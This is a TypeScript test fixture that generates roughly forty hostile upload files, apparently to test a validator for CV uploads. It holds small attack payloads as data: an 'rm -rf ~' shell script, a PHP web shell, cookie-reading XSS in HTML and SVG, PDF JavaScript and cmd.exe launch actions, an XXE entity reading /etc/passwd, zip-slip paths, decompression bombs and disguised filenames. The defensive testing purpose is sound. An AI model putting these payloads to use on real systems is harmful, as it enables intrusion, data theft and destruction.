import { docxWith, DOCX_PARTS, part, zipOf } from './archives';
import { hugePng, packedObjects, pdfOf, pictureOf } from './documents';
import type { SentFile } from './honest-files';

const EXE = Buffer.concat([Buffer.from('MZ\u0090\u0000\u0003\u0000\u0000\u0000', 'latin1'), Buffer.alloc(300, 0xcc)]);
const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1]), Buffer.alloc(200)]);
const PAGE = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';
const SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>';
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('');

const zeros = (megabytes: number) => Buffer.alloc(megabytes * 1024 * 1024);
const rels = (target: string) => part('word/_rels/settings.xml.rels', `<Relationships>${target}</Relationships>`);

/** Forty files that nobody may be given, each with what it is. Made here, so that none stands in the repository. */
export async function hostileFiles(): Promise<SentFile[]> {
  const files = [...programs(), ...pages(), ...pdfs(), ...documents(), ...(await pictures()), ...names(), ...texts()];
  return files.map(([what, name, bytes]) => ({
    what,
    name,
    bytes: Buffer.isBuffer(bytes) ? bytes : Buffer.from(bytes),
  }));
}

type Hostile = readonly [what: string, name: string, bytes: Buffer | string];

function programs(): Hostile[] {
  return [
    ['a program', 'cv.exe', EXE],
    ['a program called PDF', 'cv.pdf', EXE],
    ['a program of another system called text', 'notes.txt', ELF],
    ['a program behind two endings', 'cv.pdf.exe', EXE],
    ['a shell script called text', 'run.txt', '#!/bin/sh\nrm -rf ~\n'],
  ];
}

function pages(): Hostile[] {
  return [
    ['a page called PDF', 'cv.pdf', PAGE],
    ['a page called text', 'cv.txt', PAGE],
    ['a page', 'cv.html', PAGE],
    ['a drawing with a script', 'logo.svg', SVG],
    ['a drawing with a script called PNG', 'logo.png', SVG],
    ['a script of a server called text', 'x.txt', 'Hello <?php system($_GET["c"]); ?>'],
  ];
}

function pdfs(): Hostile[] {
  const action = '<</S/JavaScript/JS(app.alert(1))>>';
  return [
    ['a PDF with a script', 'cv.pdf', pdfOf(`5 0 obj\n${action}\nendobj\n`)],
    ['a PDF with a script spelt oddly', 'cv.pdf', pdfOf('5 0 obj\n<</S/Java#53cript/JS(app.alert(1))>>\nendobj\n')],
    ['a PDF with a script in a packed stream', 'cv.pdf', pdfOf(packedObjects(`5 0 ${action}`))],
    ['a PDF that starts a program', 'cv.pdf', pdfOf('5 0 obj\n<</S/Launch/F(cmd.exe)>>\nendobj\n')],
    ['a PDF with another file in it', 'cv.pdf', pdfOf('5 0 obj\n<</Type/EmbeddedFile/Length 0>>\nendobj\n')],
    ['a PDF that is an archive too', 'cv.pdf', Buffer.concat([pdfOf(), zipOf([part('a.exe', 'MZ')])])],
    ['a PDF that begins as a page', 'cv.pdf', Buffer.concat([Buffer.from(`${PAGE}\n`), pdfOf()])],
    ['a PDF that is cut off', 'cv.pdf', pdfOf().subarray(0, 300)],
    ['a PDF whose packed stream has no end', 'cv.pdf', pdfOf(packedObjects('0'.repeat(80 * 1024 * 1024)))],
  ];
}

function documents(): Hostile[] {
  const bomb = { name: 'word/media/a.xml', bytes: zeros(90) };
  return [
    ['an archive called DOCX', 'cv.docx', zipOf([part('readme.txt', 'hello')])],
    ['a document with macros', 'cv.docx', docxWith(part('word/vbaProject.bin', 'x'))],
    ['a document that unpacks to ninety megabytes', 'cv.docx', docxWith(bomb)],
    ['a document that lies about its sizes', 'cv.docx', docxWith({ ...bomb, bytes: zeros(2), saidSize: 10 })],
    ['a document with a way out of its folder', 'cv.docx', docxWith(part('../../etc/cron.d/x', 'x'))],
    [
      'a document with an entity',
      'cv.docx',
      docxWith(part('word/a.xml', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>')),
    ],
    ['a document with a program in it', 'cv.docx', docxWith({ name: 'word/embeddings/ole.bin', bytes: EXE })],
    [
      'a document that fetches its template',
      'cv.docx',
      docxWith(
        rels('<Relationship Type="x/attachedTemplate" Target="http://x.example/t.dotm" TargetMode="External"/>'),
      ),
    ],
    ['a document in a document of the same name', 'cv.docx', zipOf([...DOCX_PARTS, DOCX_PARTS[1]!])],
    ['a document with a comment behind it', 'cv.docx', zipOf(DOCX_PARTS, Buffer.from(PAGE))],
  ];
}

async function pictures(): Promise<Hostile[]> {
  const jpeg = await pictureOf('jpeg', { size: 400 });
  const png = await pictureOf('png', { size: 400 });
  return [
    ['a picture that is an archive too', 'me.jpg', Buffer.concat([jpeg, zipOf([part('a.exe', 'MZ')])])],
    ['a picture with a page behind it', 'me.png', Buffer.concat([png, Buffer.from(PAGE)])],
    ['a picture of ten thousand million dots', 'me.png', hugePng(100_000, 100_000)],
    ['a picture that is cut off', 'me.jpg', jpeg.subarray(0, Math.floor(jpeg.length / 2))],
    ['a picture called by another kind', 'me.jpg', png],
  ];
}

function names(): Hostile[] {
  const text = 'I like mornings.\n';
  return [
    ['a name that leads elsewhere', '../../../etc/passwd.txt', text],
    ['a name that leads elsewhere on another system', '..\\..\\windows\\a.txt', text],
    ['a name with a NUL in it', 'cv.exe\u0000.txt', text],
    ['a name that is turned around', 'cv\u202etxt.exe', EXE],
    ['a name that is turned around and ends well', 'cv\u202efdp.txt', text],
    ['a name without an ending', 'cv', text],
  ];
}

function texts(): Hostile[] {
  return [
    ['nothing', 'cv.pdf', ''],
    ['text with a NUL in it', 'cv.txt', 'a\u0000b'],
    ['letters that are none', 'cv.txt', Buffer.from([0xff, 0xfe, 0x41, 0xd8])],
  ];
}

/** What every scanner takes for a virus, and is none. */
export const TEST_VIRUS: SentFile = { what: 'the test virus', name: 'cv.txt', bytes: Buffer.from(EICAR) };
